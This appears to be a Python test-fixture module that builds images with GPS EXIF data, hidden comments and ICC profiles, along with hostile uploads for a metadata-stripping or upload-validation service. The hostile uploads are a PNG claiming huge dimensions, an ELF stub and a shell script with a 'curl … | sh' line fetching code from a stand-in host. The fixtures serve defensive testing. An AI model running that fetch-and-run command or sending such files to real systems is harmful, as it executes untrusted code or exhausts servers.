"""Images made in the tests with Pillow, with the metadata a phone (or an attacker) adds."""

from __future__ import annotations

import os
import struct
import zlib
from io import BytesIO

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

# 16°27'50.4"N 107°35'24"E: the Citadel of Huế.
CITADEL = (16.464, 107.59)
SECRET = "bí mật của người chụp"


def exif_with_gps(
    orientation: int = 1,
    latitude: tuple[float, float, float] = (16.0, 27.0, 50.4),
    longitude: tuple[float, float, float] = (107.0, 35.0, 24.0),
    refs: tuple[str, str] = ("N", "E"),
) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Artist] = "Nguyen Van A"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: refs[0],
        ExifTags.GPS.GPSLatitude: latitude,
        ExifTags.GPS.GPSLongitudeRef: refs[1],
        ExifTags.GPS.GPSLongitude: longitude,
    }
    return exif


def two_colour(size: tuple[int, int] = (40, 20), mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue: shows which way an image was turned."""
    image = Image.new("RGB", size, (220, 20, 20))
    image.paste((20, 20, 220), (size[0] // 2, 0, size[0], size[1]))
    return image.convert(mode) if mode != "RGB" else image


def encode(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def phone_jpeg(orientation: int = 6, **gps: object) -> bytes:
    """A JPEG as a phone writes it: EXIF with GPS and orientation, a comment, an ICC profile."""
    return encode(
        two_colour(),
        "JPEG",
        exif=exif_with_gps(orientation, **gps),  # type: ignore[arg-type]
        comment=SECRET.encode(),
        icc_profile=b"ICC-" + SECRET.encode(),
        quality=95,
    )


def png_with_text() -> bytes:
    info = PngInfo()
    info.add_text("Author", "Nguyen Van A")
    info.add_itxt("Description", SECRET, zip=True)
    info.add_text("Comment", SECRET, zip=True)
    return encode(
        two_colour(mode="RGBA"),
        "PNG",
        pnginfo=info,
        exif=exif_with_gps(),
        icc_profile=b"ICC-profile",
    )


def noise_jpeg(size: tuple[int, int] = (300, 300), quality: int = 95) -> bytes:
    """A JPEG that does not compress: its size grows with its area."""
    image = Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3))
    return encode(image, "JPEG", quality=quality)


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that claims ``width`` × ``height`` pixels and carries almost no data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 2
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
